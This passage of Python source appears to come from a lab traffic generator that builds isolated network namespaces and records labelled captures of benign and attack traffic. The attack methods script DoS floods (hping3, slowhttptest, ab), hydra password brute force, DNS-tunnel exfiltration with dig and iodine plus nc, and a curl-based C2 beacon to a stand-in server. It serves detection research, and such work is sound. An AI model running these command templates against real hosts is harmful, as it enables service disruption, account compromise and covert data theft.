                cmd = ["hping3", "-q", "--udp", "-p", r.choice([53, 123, 161, 9999, r.randint(1024, 65000)]),
                       "-c", r.randint(2000, 8000), "-i", f"u{r.choice([100, 200, 500])}", "-d", r.randint(20, 1200),
                       self.ip[tgt]]
                self.act("dos", "hping3", "hping3-udp", "dos", [tgt], cmd, 30)
            elif v == "icmp":
                tgt = r.choice(self.servers)
                cmd = ["hping3", "-q", "--icmp", "-c", r.randint(2000, 10000), "-i", f"u{r.choice([100, 200, 500])}",
                       "-d", r.randint(0, 1400), self.ip[tgt]]
                self.act("dos", "hping3", "hping3-icmp", "dos", [tgt], cmd, 30)
            elif v == "slowloris":
                cmd = ["slowhttptest", "-H" if r.random() < 0.7 else "-B", "-c", r.randint(100, 400),
                       "-r", r.randint(30, 150),
                       "-i", r.randint(5, 15), "-l", r.randint(25, 45), "-g", "-o", f"{self.run}/slowhttp",
                       "-u", self.url(web, False, r.choice(self.pages))]
                self.act("dos", "slowhttptest", "slowloris", "dos", [web], cmd, 55)
            else:
                cmd = ["ab", "-q", "-n", r.randint(1000, 5000), "-c", r.randint(10, 80), "-s", "5",
                       *(["-k"] if r.random() < 0.3 else []),
                       self.url(web, https, r.choice(self.pages + ["/index.html"]))]
                self.act("dos", "ab", "http-get-flood", "dos", [web], cmd, 40)

    def brute(self):
        r = self.rng_t()
        variants = ["ssh", "http-get", "ftp"]
        r.shuffle(variants)
        for v in variants:
            if not self.sleep(r.uniform(2, 10)):
                return
            user = r.choice(["root", "admin", "test", "oracle", "ubuntu", "user", "guest", self.web_user])
            tasks = str(r.choice([2, 4, 8, 16] if v == "http-get" else [2, 4, 4, 6]))
            common = ["hydra", "-I", "-q", "-t", tasks, "-w", "5", "-l", user]
            if v == "ssh":
                cmd = common + ["-P", self.wordlists["ssh"], "-s", self.port["ssh"], self.ip["ssh"], "ssh"]
                tgt = "ssh"
            elif v == "ftp":
                cmd = common + ["-P", self.wordlists["ftp"], "-s", self.port["ftp"], self.ip["ftp"], "ftp"]
                tgt = "ftp"
            else:
                tgt = r.choice(["web1", "web2"])
                https = r.random() < 0.4
                cmd = common + ["-f", "-P", self.wordlists["http"], "-s", self.port["https" if https else "http"],
                                *(["-S"] if https else []), self.ip[tgt], "http-get", "/admin/"]
                cmd[cmd.index("-l") + 1] = self.web_user if r.random() < 0.7 else user
            self.act("bruteforce", "hydra", f"hydra-{v}", "brute", [tgt], cmd, 45)

    def exfil(self):
        r = self.rng_t()
        if not self.sleep(r.uniform(5, 30)):
            return
        sessions = r.randint(2, 3)
        iodine_at = r.randrange(sessions + 1)
        for s in range(sessions + 1):
            if s == iodine_at:
                self.iodine(r)
                if not self.sleep(r.uniform(3, 10)):
                    return
                continue
            data = os.urandom(r.randint(4, 24) << 10)
            enc = r.choice(["b32", "hex", "b64"])
            if enc == "b32":
                text = base64.b32encode(data).decode().rstrip("=").lower()
            elif enc == "hex":
                text = data.hex()
            else:
                text = base64.urlsafe_b64encode(data).decode().rstrip("=").replace("_", "-")
            lab_len = r.randint(20, 63)
            n_labels = r.randint(1, 3)
            per_q = lab_len * n_labels
            sid = "%04x" % r.randrange(1 << 16)
            qtype = r.choice(["A", "TXT", "TXT", "AAAA", "CNAME", "MX"])
            lines = []
            for i in range(0, len(text), per_q):
                chunk = text[i:i + per_q]
                labels = [chunk[j:j + lab_len] for j in range(0, len(chunk), lab_len)]
                name = ".".join(labels + [f"{sid}{i // per_q:x}", self.exfil_domain])
                lines.append(f"@{self.ip['dns']} -t {qtype} +tries=1 +time=1 +short {name}")
            burst = r.choice([5, 20, 60, 200])
            gap = r.choice([0.0, 0.2, 1.0, 3.0])
            for i in range(0, len(lines), burst):
                if not self.live():
                    return
                batch = f"{self.run}/exfil-{s}-{i}.txt"
                with open(batch, "w") as f:
                    f.write("\n".join(lines[i:i + burst]) + "\n")
                self.act("exfil", "dig", f"dns-tunnel-{enc}", "exfil", ["dns"], ["dig", "-f", batch], 30)
                if not self.sleep(gap * r.uniform(0.5, 1.5)):
                    return
            self.sleep(r.uniform(3, 15))

    def iodine(self, r):
        """A real DNS tunnel (iodine) through the resolver, which forwards the domain to c2srv."""
        if not self.live():
            return
        direct = r.random() < 0.25
        server = self.ip["c2srv" if direct else "dns"]
        opts = ["-T", r.choice(["NULL", "PRIVATE", "TXT", "SRV", "MX", "CNAME", "A"]),
                "-O", r.choice(["Base32", "Base64", "Base128"]),
                "-I", str(r.choice([1, 2, 4])), "-M", str(r.choice([120, 180, 255]))]
        if r.random() < 0.3:
            opts.append("-L0")
        size = r.randint(30, 300) << 10
        hold = r.uniform(25, 45)
        script = (f"iodine -f -r -P {self.tunnel_pw} {' '.join(opts)} {server} {self.tunnel_domain} & IOD=$!; "
                  f"for i in $(seq 1 20); do ip addr show dns0 2>/dev/null | grep -q inet && break; sleep 0.5; done; "
                  f"head -c {size} /dev/urandom | timeout {hold:.0f} nc -n -q 1 {self.tunnel_ip} 4444; "
                  f"sleep {r.uniform(1, 5):.1f}; kill $IOD")
        t0 = time.time()
        # The resolver's forwarded queries to c2srv belong to the tunnel too.
        fwd = None if direct else self.action("exfil", "iodine", "iodine-forwarded", "dns", ["c2srv"], t0, None)
        self.act("exfil", "iodine", "iodine" + ("-direct" if direct else ""), "exfil",
                 ["c2srv" if direct else "dns"], ["sh", "-c", script], hold + 20, args=script)
        if fwd is not None:
            fwd["t1"] = round(time.time() + 2, 6)

    def implant(self):
        r = self.rng_t()
        interval = r.choice([1, 2, 3, 5])
        jitter = r.choice([0.0, 0.1, 0.3, 0.5])
        mode = r.choice(["http", "https", "mixed"])
        ua = r.choice(["Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "python-requests/2.31", "curl/7.88.1"])
        if not self.sleep(r.uniform(0, 10)):
            return
        while self.live():
            https = mode == "https" or (mode == "mixed" and r.random() < 0.5)
            port = self.port["c2https" if https else "c2http"]
            path = r.choice(self.c2paths) + f"?id={r.randrange(1 << 32):08x}"
            cmd = ["curl", "-s", "-k", "--max-time", "10", "-A", ua, "-o", "/dev/null"]
            if r.random() < 0.3:   # send results back
                cmd += ["--data-binary", "@-", "-H", "Content-Type: application/octet-stream"]
                data = base64.b64encode(os.urandom(r.randint(32, 4000)))
            else:
                data = None
            host = self.hostname["c2srv"] if r.random() < self.p_names else self.ip["c2srv"]
            cmd.append(f"{'https' if https else 'http'}://{host}:{port}{path}")
            self.act("c2", "curl", f"beacon-{'https' if https else 'http'}", "implant", ["c2srv"], cmd, 12,
                     stdin_data=data)
            if not self.sleep(interval * (1 + r.uniform(-jitter, jitter))):
                return

    # ---------------------------------------------------------------- run
    def go(self):
        os.makedirs(self.out, exist_ok=True)
        if os.path.exists(self.run):
            shutil.rmtree(self.run)
        self.plan()
        log(f"seed {self.seed}: subnet {self.ip['web1'].rsplit('.', 1)[0]}.0/24, ports {self.port}")
        self.content()
        self.build()
        self.services()
        pcap = self.stem + ".pcap"
        cap = self.popen("sw", ["tcpdump", "-i", "br0", "-n", "-s", "0", "-B", "32768", "-w", pcap],
                         stderr=open(self.stem + ".tcpdump.log", "w"))
        time.sleep(1.5)
        t_start = time.time()
        self.t_end = t_start + self.duration
        threads = self.workers()
        for t in threads:
            t.start()
        t_stop = self.end_capture(cap, threads, t_start)
        return pcap, self.meta(t_start, t_stop)

    def end_capture(self, cap, threads, t_start) -> float:
        """Waits for the activities, stops the capture and writes the action log; the stop time."""
        for t in threads:
            t.join(timeout=max(1, self.t_end - time.time() + 70))
        self.stop.set()
        time.sleep(2)
        self.kill(cap, signal.SIGINT)
        t_stop = time.time()
        log(f"capture done ({t_stop - t_start:.0f} s); {len(self.actions)} actions")
        with open(self.stem + ".actions.jsonl", "w") as f:
            for a in list(self.actions):
                if a["t1"] is None:
                    a = dict(a, t1=round(t_stop, 6), rc="running at capture end")
                f.write(json.dumps(a, sort_keys=True) + "\n")
        return t_stop

    BENIGN_KINDS = {"browse": 5, "mirror": 1, "dns": 3, "ssh": 2, "scp": 1, "bulk": 0.4, "ftp": 1, "idle": 0.6}

    def workers(self) -> list[threading.Thread]:
        threads = []
        for c in self.clients:
            for k in range(2):   # two things at once per client (tabs, a download, a shell)
                threads.append(threading.Thread(target=self.benign_loop, name=f"{c}-{k}", args=(c, self.BENIGN_KINDS)))
        # The C2 implant also browses and resolves names like any client.
        threads.append(threading.Thread(target=self.benign_loop, name="implant-browse",
                                        args=("implant", {"browse": 5, "dns": 3, "bulk": 0.1})))
        for fn in (self.scanner, self.dos, self.brute, self.exfil, self.implant):
            threads.append(threading.Thread(target=fn, name=fn.__name__))
        return threads

    def meta(self, t_start, t_stop) -> dict:
        return {"seed": self.seed, "roles": self.ip, "ports": self.port, "zone": self.zone,
                "exfil_domain": self.exfil_domain, "tunnel_domain": self.tunnel_domain,
                "filtered_servers": self.filtered, "duration_s": round(t_stop - t_start, 1),
                "client_errors": dict(self.errors)}

    def cleanup(self):
        self.stop.set()
        for p in list(self.procs):
            if p.poll() is None:
                self.kill(p)
        for n in self.namespaces:
            pids = subprocess.run(["ip", "netns", "pids", n], capture_output=True, text=True).stdout.split()
            for pid in pids:
                try:
                    os.kill(int(pid), signal.SIGKILL)
                except (ProcessLookupError, ValueError):
                    pass
            sh("ip", "netns", "del", n, check=False)
            if n.startswith(self.prefix) and os.path.isdir(f"/etc/netns/{n}"):
                shutil.rmtree(f"/etc/netns/{n}", ignore_errors=True)
        if os.path.isdir(self.run):
            shutil.rmtree(self.run, ignore_errors=True)


# --------------------------------------------------------------------------- everyday scenario

MDNS = ["224.0.0.251", "ff02::fb", "224.0.0.22"]   # mDNS groups, IGMPv3 reports
SSDP = "239.255.255.250"
SSH_OPTS = ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes",
            "-o", "ConnectTimeout=5"]


class Everyday(Lab):
    """Benign only: everyday tools, one activity per client host (so each flow finds its variant,
    the labeller preferring no action over another when windows overlap), IPv6 on every link
    (link-local + a ULA /64), the capture started before the links come up."""

    ACTIVITIES = ["curl-http", "curl-https", "curl-sparse", "wget", "dig-loop", "dig-sparse", "ping",
                  "ntp-poll", "ntp-once", "dhcp", "mdns-browse", "ssdp", "monitor", "ssh-pty",
                  "ssh-copy", "tls-keepalive"]
    # Activities whose targets and protocols never meet may share a host (the seed decides).
    SHAREABLE = [("ping", "ssdp"), ("ntp-once", "mdns-browse"), ("dhcp", "wget")]

    def __init__(self, seed, out, duration, prefix):
        super().__init__(seed, out, duration, prefix)
        self.stem = os.path.join(self.out, f"lab-everyday-seed{seed}")
        # Its own stream: everyday seed N shares nothing (not even the /24) with attack seed N.
        self.rng = random.Random(f"everyday:{seed}")
        self.run = os.path.join(self.out, f"run-everyday-seed{seed}")
        self.ip6: dict[str, str] = {}
        self.ll: dict[str, str] = {}
        self.mdns_name: dict[str, str] = {}

    def pause(self, s: float) -> bool:
        """Sleep; False once the run is over (sleep alone says True past the end)."""
        return self.sleep(s) and self.live()

    def v6(self, role):
        return {a for a in (self.ip6.get(role), self.ll.get(role)) if a}

    def action(self, label, tool, variant, role, targets, t0, t1, **extra):
        # A host's IPv6 addresses belong to its actions too (dual-stack names, ping6, ND).
        srcs = set(extra.pop("srcs", ())) | self.v6(role)
        tg = list(targets) + [a for t in targets for a in sorted(self.v6(t))]
        return super().action(label, tool, variant, role, tg, t0, t1, srcs=sorted(srcs), **extra)

    # ---------------------------------------------------------------- topology
    def plan(self):
        r = self.rng
        # 10/8 only: 1 in 65 536 to meet the /24 of an attack run going on beside it (which could not
        # mix anyway: each lab has its own bridge), against 1 in 256 inside 192.168/16.
        base = f"10.{r.randrange(256)}.{r.randrange(256)}"
        self.servers = ["web1", "web2", "dns", "ssh", "ntp"]
        self.mdns_hosts = ["printer", "nas"]
        acts = list(self.ACTIVITIES)
        r.shuffle(acts)
        self.does = {}
        n = 0
        for a in acts:
            if a in self.does:
                continue
            n += 1
            self.does[a] = f"h{n:02d}"
            for x, y in self.SHAREABLE:
                other = y if a == x else x if a == y else None
                if other and other not in self.does and r.random() < 0.5:
                    self.does[other] = self.does[a]
        self.clients = sorted(set(self.does.values()))
        roles = self.servers + self.mdns_hosts + self.clients
        hosts = r.sample(range(2, 200), len(roles))   # .200-.219: the DHCP pool
        self.ip = {role: f"{base}.{h}" for role, h in zip(roles, hosts)}
        self.pool = [f"{base}.{h}" for h in range(200, 220)]
        ula = "fd%02x:%04x:%04x:%04x" % (r.randrange(256), r.randrange(1 << 16), r.randrange(1 << 16),
                                        r.randrange(1 << 16))
        self.ula_prefix = f"{ula}::/64"
        for role, hid in zip(roles, r.sample(range(2, 0xFFFF), len(roles))):
            self.ip6[role] = f"{ula}::{hid:x}"
        self.roles = roles
        self.port = {"http": r.choice([80, 80, 8080, 8000]), "https": r.choice([443, 443, 8443]),
                     "ssh": r.choice([22, 22, 2222])}
        self.web_keepalive = r.choice([30, 65, 75])   # longer than the 10 s keep-alive client's gap

    def build(self):
        """Namespaces, bridge and veths with the hosts' ends down: links come up under capture."""
        r = self.rng
        self.namespaces = [self.ns("sw")] + [self.ns(x) for x in self.roles]
        for n in self.namespaces:
            sh("ip", "netns", "add", n)
        for role in self.roles:
            os.makedirs(f"/etc/netns/{self.ns(role)}", exist_ok=True)
            with open(f"/etc/netns/{self.ns(role)}/hosts", "w") as f:
                f.write("127.0.0.1 localhost\n" + "".join(
                    f"{self.ip[k]} {v}\n" + (f"{self.ip6[k]} {v}\n" if k in self.dual else "")
                    for k, v in self.hostname.items()))
        sw = self.ns("sw")
        # The switch says nothing itself (no router, no MLD querier): only hosts speak IPv6.
        for k in ("all", "default"):
            sh("ip", "netns", "exec", sw, "sysctl", "-qw", f"net.ipv6.conf.{k}.disable_ipv6=1", check=False)
        sh("ip", "-n", sw, "link", "add", "br0", "type", "bridge", "stp_state", "0", "forward_delay", "0",
           "mcast_snooping", "0")
        sh("ip", "-n", sw, "link", "set", "br0", "up")
        for i, role in enumerate(self.roles):
            n = self.ns(role)
            port = f"p{i}"
            sh("ip", "-n", sw, "link", "add", port, "type", "veth", "peer", "name", "eth0", "netns", n)
            sh("ip", "-n", sw, "link", "set", port, "master", "br0")
            sh("ip", "-n", sw, "link", "set", port, "up")
            for ns_, dev in ((sw, port), (n, "eth0")):
                sh("ip", "netns", "exec", ns_, "ethtool", "-K", dev, "tso", "off", "gso", "off",
                   "gro", "off", check=False)
            for k in ("all", "default", "eth0"):
                sh("ip", "netns", "exec", n, "sysctl", "-qw", f"net.ipv6.conf.{k}.disable_ipv6=0", check=False)
            sh("ip", "-n", n, "addr", "add", f"{self.ip[role]}/24", "dev", "eth0")
            sh("ip", "-n", n, "addr", "add", f"{self.ip6[role]}/64", "dev", "eth0")
            sh("ip", "netns", "exec", n, "sysctl", "-qw",
               f"net.ipv4.ip_default_ttl={r.choice([64, 64, 128])}", check=False)
            sh("ip", "netns", "exec", n, "sysctl", "-qw",
               f"net.ipv6.conf.default.hop_limit={r.choice([64, 64, 128, 255])}", check=False)
            # -1 (the kernel's default): RS go on with backoff as long as no router answers. The
            # rdisc6 host stops after 3, so its later RS are rdisc6's.
            rs = 3 if role == self.does["ping"] else r.choice([1, 3, -1, -1])
            sh("ip", "netns", "exec", n, "sysctl", "-qw", f"net.ipv6.conf.eth0.router_solicitations={rs}", check=False)

    def links_up(self):
        r = self.rng
        order = list(self.roles)
        r.shuffle(order)
        for role in order:
            sh("ip", "-n", self.ns(role), "link", "set", "lo", "up")
            sh("ip", "-n", self.ns(role), "link", "set", "eth0", "up")
            time.sleep(r.uniform(0, 0.3))
        self.t_up = time.time()
        deadline = time.time() + 8
        for role in self.roles:   # duplicate address detection, then the link-local is known
            while time.time() < deadline:
                out = subprocess.run(["ip", "-n", self.ns(role), "-6", "addr", "show", "dev", "eth0"],
                                     capture_output=True, text=True).stdout
                if "tentative" not in out and "fe80::" in out:
                    break
                time.sleep(0.2)
            for line in out.splitlines():
                if "inet6 fe80::" in line:
                    self.ll[role] = line.split()[1].split("/")[0]
            for fam in ("-4", "-6"):
                routes = subprocess.run(["ip", "-n", self.ns(role), fam, "route", "show", "default"],
                                        capture_output=True, text=True).stdout.strip()
                if routes:
                    raise RuntimeError(f"{self.ns(role)} has a default route ({routes}); refusing to run")

    # ---------------------------------------------------------------- content
    def content(self):
        r = self.rng
        os.makedirs(self.run, exist_ok=True)
        d = self.run
        os.chmod(d, 0o755)
        self.docroot = os.path.join(d, "www")
        for sub in ("img", "p", "files", "api"):
            os.makedirs(os.path.join(self.docroot, sub), exist_ok=True)
        self.pages = [f"/p/{r.choice(WORDS)}-{i}.html" for i in range(r.randint(30, 90))]
        self.images = [f"/img/{i}.{r.choice(['png', 'jpg', 'css', 'js'])}" for i in range(r.randint(10, 40))]
        for path in self.images:
            with open(self.docroot + path, "wb") as f:
                f.write(os.urandom(int(r.lognormvariate(9.5, 1.0)) + 200))
        for path in self.pages:
            words = " ".join(r.choice(WORDS) for _ in range(int(r.lognormvariate(6.5, 1.0)) + 20))
            links = "".join(f'<a href="{u}">{u}</a>' for u in r.sample(self.pages, 5) + r.sample(self.images, 3))
            with open(self.docroot + path, "w") as f:
                f.write(f"<html><head><title>{path}</title></head><body><p>{words}</p>{links}</body></html>")
        with open(os.path.join(self.docroot, "index.html"), "w") as f:
            f.write("<html><body>" + "".join(f'<a href="{u}">{u}</a>\n' for u in self.pages) + "</body></html>")
        # A health endpoint (what 1/s loops poll) and a large download (an ISO, an update).
        self.status_path = r.choice(["/api/status.json", "/healthz", "/api/v1/ping", "/metrics"])
        os.makedirs(os.path.dirname(self.docroot + self.status_path), exist_ok=True)
        with open(self.docroot + self.status_path, "w") as f:
            f.write(json.dumps({"ok": True, "build": r.randrange(1 << 20), "words": r.sample(WORDS, r.randint(1, 30))}))
        self.big = (f"/files/{r.choice(['debian-12', 'update', 'backup', 'dataset'])}-{r.randint(1, 99)}."
                    f"{r.choice(['iso', 'tar.gz', 'img'])}")
        self.big_size = r.randint(20, 60) << 20
        with open(self.docroot + self.big, "wb") as f:
            for _ in range(self.big_size >> 20):
                f.write(os.urandom(1 << 20))
        key = r.choice([["rsa:2048"], ["ec", "-pkeyopt", "ec_paramgen_curve:prime256v1"]])
        sh("openssl", "req", "-x509", "-newkey", *key, "-nodes", "-days", "30",
           "-subj", f"/CN={r.choice(WORDS)}.{r.choice(['lab', 'corp', 'local'])}",
           "-keyout", f"{d}/tls.key", "-out", f"{d}/tls.crt")
        with open(f"{d}/htpasswd", "w") as f:
            f.write("")
        for name in ("ssh_host_ed25519_key", "client_key"):
            sh("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", f"{d}/{name}")
        shutil.copy(f"{d}/client_key.pub", f"{d}/authorized_keys")
        # Files for scp and rsync (a project tree: many small files, a few larger).
        self.ssh_files = []
        os.makedirs(f"{d}/sshdata", exist_ok=True)
        for i in range(3):
            p = f"{d}/sshdata/f{i}.dat"
            with open(p, "wb") as f:
                f.write(os.urandom(r.randint(8, 2000) << 10))
            self.ssh_files.append(p)
        self.tree = f"{d}/tree"
        for i in range(r.randint(20, 80)):
            sub = f"{self.tree}/{r.choice(WORDS)}"
            os.makedirs(sub, exist_ok=True)
            with open(f"{sub}/{r.choice(WORDS)}{i}.{r.choice(['txt', 'py', 'rs', 'json', 'bin'])}", "wb") as f:
                f.write(os.urandom(int(r.lognormvariate(8, 1.5)) + 10))
        os.makedirs(f"{d}/upload", exist_ok=True)
        os.makedirs(f"{d}/pull", exist_ok=True)
        # DNS zone: A, AAAA (ULA), MX, TXT; anything else in the zone is NXDOMAIN.
        self.zone = r.choice(["corp", "lab", "internal", "office", "home"]) + "." + r.choice(["lan", "test", "example"])
        self.names = {f"www.{self.zone}": "web1", f"intranet.{self.zone}": "web2", f"git.{self.zone}": "ssh",
                      f"ntp.{self.zone}": "ntp", f"mail.{self.zone}": "web2", f"printer.{self.zone}": "printer",
                      f"nas.{self.zone}": "nas"}
        for i in range(r.randint(20, 60)):
            self.names[f"{r.choice(WORDS)}{i}.{self.zone}"] = r.choice(self.servers + self.mdns_hosts)
        self.aaaa = {n for n in self.names if r.random() < 0.6}
        with open(f"{d}/hosts", "w") as f:
            for n, role in self.names.items():
                f.write(f"{self.ip[role]} {n}\n" + (f"{self.ip6[role]} {n}\n" if n in self.aaaa else ""))
        self.mx = [(f"mail.{self.zone}", 10)] + ([(f"mx2.{self.zone}", 20)] if r.random() < 0.5 else [])
        self.txt = {self.zone: ["v=spf1 mx -all", f"site-verification={base64.b32encode(os.urandom(10)).decode()}"],
                    f"_dmarc.{self.zone}": [f"v=DMARC1; p={r.choice(['none', 'quarantine'])}"]}
        self.hostname = {"web1": f"www.{self.zone}", "web2": f"intranet.{self.zone}", "ntp": f"ntp.{self.zone}"}
        self.dual = {k for k in self.hostname if r.random() < 0.5}   # names that resolve to IPv6 too
        self.p_names = r.choice([0.5, 0.8, 1.0])

    # ---------------------------------------------------------------- services
    def services(self):
        d, r = self.run, self.rng
        for name in ("web1", "web2"):
            v6 = f"listen [{self.ip6[name]}]:{self.port['http']}; listen [{self.ip6[name]}]:{self.port['https']} ssl;"
            self.popen(name, ["nginx", "-c", self.nginx_conf(name, self.docroot, self.port["http"],
                                                             self.port["https"], extra=v6)])
        dns = ["dnsmasq", "--no-daemon", "--no-resolv", "--no-hosts", f"--addn-hosts={d}/hosts",
               f"--listen-address={self.ip['dns']},{self.ip6['dns']}", "--bind-interfaces",
               "--except-interface=lo", f"--pid-file={d}/dnsmasq.pid", f"--local=/{self.zone}/",
               "--cache-size=1000", "--user=root", "--group=root",
               # DHCP for the lab's laptops: a pool the static hosts never use.
               f"--dhcp-range={self.pool[0]},{self.pool[-1]},255.255.255.0,{r.choice(['2m', '10m', '1h'])}",
               f"--dhcp-leasefile={d}/dnsmasq.leases", "--dhcp-authoritative",
               f"--dhcp-option=option:ntp-server,{self.ip['ntp']}", f"--domain={self.zone}"]
        dns += [f"--mx-host={self.zone},{h},{pref}" for h, pref in self.mx]
        dns += [f"--txt-record={n},{','.join(json.dumps(t) for t in ts)}" for n, ts in self.txt.items()]
        if len(self.mx) > 1:
            dns.append(f"--host-record=mx2.{self.zone},{self.ip['web1']}")
        self.popen("dns", dns)
        with open(f"{d}/sshd_config", "w") as f:
            f.write(f"""Port {self.port['ssh']}
ListenAddress {self.ip['ssh']}
ListenAddress {self.ip6['ssh']}
HostKey {d}/ssh_host_ed25519_key
PidFile {d}/sshd.pid
AuthorizedKeysFile {d}/authorized_keys
StrictModes no
PasswordAuthentication no
KbdInteractiveAuthentication no
UsePAM no
PermitRootLogin prohibit-password
MaxStartups 200:30:400
LoginGraceTime 20
UseDNS no
Subsystem sftp internal-sftp
""")
        os.makedirs("/run/sshd", exist_ok=True)
        self.popen("ssh", ["/usr/sbin/sshd", "-D", "-e", "-f", f"{d}/sshd_config"])
        # NTP server: serves its own clock (local stratum), never sets it (-x: the clock is the host's).
        with open(f"{d}/chrony-server.conf", "w") as f:
            f.write(f"local stratum {r.choice([3, 8, 10])}\nallow all\nbindaddress {self.ip['ntp']}\n"
                    f"bindaddress {self.ip6['ntp']}\ncmdport 0\nbindcmdaddress /\npidfile {d}/chrony-server.pid\n")
        self.popen("ntp", ["chronyd", "-d", "-x", "-u", "root", "-f", f"{d}/chrony-server.conf"])
        # mDNS responders (avahi without D-Bus), each with a private /run (its pid file is fixed).
        services = {"printer": [("_ipp._tcp", 631), ("_http._tcp", 80), ("_printer._tcp", 515)],
                    "nas": [("_smb._tcp", 445), ("_sftp-ssh._tcp", 22), ("_http._tcp", 5000)]}
        t0 = time.time()
        for host in self.mdns_hosts:
            svc = f"{d}/avahi-{host}"
            os.makedirs(svc, exist_ok=True)
            for typ, port in services[host]:
                if r.random() < 0.8:
                    with open(f"{svc}/{typ.split('.')[0][1:]}.service", "w") as f:
                        f.write(f'<?xml version="1.0" standalone="no"?>'
                                f'<!DOCTYPE service-group SYSTEM "avahi-service.dtd">'
                                f'<service-group><name replace-wildcards="yes">{host} %h</name><service>'
                                f'<type>{typ}</type><port>{port}</port></service></service-group>\n')
            conf = self.avahi_conf(host, dbus=False)
            self.popen(host, ["sh", "-c", f"mount -t tmpfs none /run && mkdir -p /run/avahi-daemon && "
                                          f"mount --bind {svc} /etc/avahi/services && "
                                          f"exec avahi-daemon --no-drop-root --no-chroot --no-rlimits -f {conf}"])
            self.action("benign", "avahi-daemon", "mdns-announce", host,
                        MDNS + ["ff02::fb"] + self.mdns_hosts + [self.does["mdns-browse"]], t0, None,
                        protos=["udp", "igmp"])
        time.sleep(1.5)

    def avahi_conf(self, host, dbus):
        r = self.rng
        path = f"{self.run}/avahi-{host}.conf"
        self.mdns_name[host] = f"{host}-{r.choice(WORDS)}"
        with open(path, "w") as f:
            f.write(f"[server]\nhost-name={self.mdns_name[host]}\nuse-ipv4=yes\n"
                    f"use-ipv6={r.choice(['yes', 'yes', 'no'])}\n"
                    f"allow-interfaces=eth0\nenable-dbus={'yes' if dbus else 'no'}\nratelimit-interval-usec=1000000\n"
                    f"ratelimit-burst=1000\n[wide-area]\nenable-wide-area=no\n[publish]\n"
                    f"publish-workstation={r.choice(['yes', 'no'])}\npublish-hinfo={r.choice(['yes', 'no'])}\n")
        return path

    # ---------------------------------------------------------------- clients
    def hostport(self, server, https):
        r = self.rng_t()
        host = self.hostname[server] if r.random() < self.p_names else self.ip[server]
        return f"{'https' if https else 'http'}://{host}:{self.port['https' if https else 'http']}"

    def window(self, r, lo=40, hi=None):
        """A run of a loop: starts a little late, lasts part of the capture."""
        if not self.pause(r.uniform(0, 15)):
            return 0.0
        left = self.t_end - time.time()
        return time.time() + min(left, r.uniform(min(lo, left), hi or left))

    def curl_loop(self, role, https):
        r = self.rng_t()
        server = r.choice(["web1", "web2"])
        url = self.hostport(server, https) + self.status_path
        until = self.window(r)
        while self.live() and time.time() < until:
            self.act("benign", "curl", f"loop-1s-{'https' if https else 'http'}", role, [server],
                     ["curl", "-s", "-k", "--max-time", "5", "-o", "/dev/null", url], 6)
            if not self.pause(r.uniform(0.9, 1.1)):
                return

    def curl_sparse(self, role):
        r = self.rng_t()
        ua = r.choice(["Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0", "curl/7.88.1", "Wget/1.21.3"])
        while self.pause(r.uniform(5, 20)):
            server, https = r.choice(["web1", "web2"]), r.random() < 0.5
            path = r.choice(self.pages + self.images + ["/index.html"])
            self.act("benign", "curl", f"sparse-{'https' if https else 'http'}", role, [server],
                     ["curl", "-s", "-k", "-A", ua, "--max-time", "10", "-o", "/dev/null",
                      self.hostport(server, https) + path], 12)

    def wget_large(self, role):
        r = self.rng_t()
        for https in r.sample([False, True], r.randint(1, 2)):
            if not self.pause(r.uniform(5, 40)):
                return
            rate = r.choice([2000, 4000, 8000, 16000])   # KB/s: a download that takes a while
            server = r.choice(["web1", "web2"])
            self.act("benign", "wget", f"large-file-{'https' if https else 'http'}", role, [server],
                     ["wget", "-q", "-O", "/dev/null", "--no-check-certificate", f"--limit-rate={rate}k",
                      self.hostport(server, https) + self.big], self.big_size / (rate << 10) + 20)

    def dig_cmd(self, qtype, name, v6=False):
        server = self.ip6["dns"] if v6 else self.ip["dns"]
        return ["dig", f"@{server}", "+tries=1", "+time=2", "-t", qtype, name]

    def dig_loop(self, role):
        r = self.rng_t()
        names = r.sample(list(self.names), r.randint(1, 4))
        until = self.window(r)
        while self.live() and time.time() < until:
            self.act("benign", "dig", "loop-1s", role, ["dns"],
                     self.dig_cmd(r.choice(["A", "A", "AAAA"]), r.choice(names)), 4)
            if not self.pause(r.uniform(0.9, 1.1)):
                return

    def dig_sparse(self, role):
        r = self.rng_t()
        while self.pause(r.uniform(3, 15)):
            kind = r.choice(["a", "aaaa", "mx", "txt", "nxdomain"])
            if kind in ("a", "aaaa"):
                name = r.choice(list(self.aaaa) if kind == "aaaa" else list(self.names))
            elif kind == "mx":
                name = self.zone
            elif kind == "txt":
                name = r.choice(list(self.txt))
            else:
                name = f"{r.choice(WORDS)}-{r.randint(1, 999)}.{self.zone}"
            v6 = r.random() < 0.3
            self.act("benign", "dig", f"sparse-{kind}" + ("-ip6" if v6 else ""), role, ["dns"],
                     self.dig_cmd("A" if kind == "nxdomain" else kind.upper(), name, v6), 4)

    def ping(self, role):
        r = self.rng_t()
        rs_done = False
        while self.pause(r.uniform(3, 20)):
            target = r.choice(self.servers + self.mdns_hosts)
            kind = r.choice(["ipv4", "ipv4", "ipv6", "ipv6-linklocal" if target in self.ll else "ipv6"])
            if not rs_done and time.time() > self.t_end - self.duration / 2:
                # A host asking for routers again (rdisc6): no router here, so no answer.
                rs_done = True
                self.act("benign", "rdisc6", "router-solicit", role, ["ff02::2"],
                         ["rdisc6", "-r", str(r.randint(1, 3)), "-w", "1000", "eth0"], 8)
                continue
            dst = {"ipv4": self.ip[target], "ipv6": self.ip6[target],
                   "ipv6-linklocal": f"{self.ll.get(target)}%eth0"}[kind]
            n = r.randint(3, 12)
            self.act("benign", "ping", kind, role, [target],
                     ["ping", "-6" if kind != "ipv4" else "-4", "-c", n, "-i", r.choice([0.2, 1, 1, 2]),
                      "-s", r.choice([56, 56, 100, 1000]), "-W", "1", dst], n * 2 + 3)

    def chrony_conf(self, role, minpoll):
        path = f"{self.run}/chrony-{role}.conf"
        name = self.hostname["ntp"] if self.rng_t().random() < 0.5 else self.ip["ntp"]
        with open(path, "w") as f:
            f.write(f"server {name} iburst minpoll {minpoll} maxpoll {minpoll + 1}\ncmdport 0\n"
                    f"bindcmdaddress /\npidfile {self.run}/chrony-{role}.pid\n")
        return path

    def ntp_poll(self, role):
        r = self.rng_t()
        minpoll = r.choice([3, 4, 5])   # 8, 16, 32 s
        if not self.pause(r.uniform(0, 10)):
            return
